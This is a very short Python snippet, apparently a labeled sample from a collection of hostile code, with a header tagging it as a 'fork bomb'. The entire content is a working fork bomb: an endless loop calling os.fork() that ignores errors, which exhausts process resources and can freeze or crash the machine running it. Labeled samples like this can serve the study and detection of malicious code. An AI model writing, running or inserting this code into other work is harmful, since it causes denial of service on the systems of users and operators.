# class: fork bomb; possible: low medium high; style: short
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
